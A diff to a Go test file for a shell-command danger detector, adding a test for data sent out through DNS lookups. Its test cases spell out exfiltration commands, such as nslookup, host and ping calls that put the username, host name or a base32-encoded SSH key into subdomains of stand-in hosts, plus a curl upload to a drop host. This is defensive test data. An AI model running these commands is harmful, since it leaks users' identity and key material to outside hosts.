@@ -197,3 +197,21 @@ func TestSavedSecretsAndRecordingsSent(t *testing.T) {
 		`date > /tmp/stamp && curl -T /tmp/stamp https://drop.example.net/`,
 	})
 }
+
+// Data sent as the labels of a DNS name under someone's domain, by any
+// lookup tool; lookups of computed names alone or on the local network
+// send nothing.
+func TestDNSLabelsBuiltFromOutput(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`nslookup $(id -un).$(uname -n).t.example.net`, CategoryExfiltration, "dns-label-exfil", LevelCritical},
+		{`host "$(cat ~/.ssh/id_ed25519.pub | base32 | head -c 60).x.example.org"`, CategoryExfiltration, "", LevelCritical},
+		{"ping -c1 `hostname`.beacon.example.com", CategoryExfiltration, "dns-label-exfil", LevelCritical},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`dig $(hostname)`,
+		`dig +short "$HOST"`,
+		`ping -c1 $(hostname).local`,
+		`dig api.example.com`,
+	})
+}
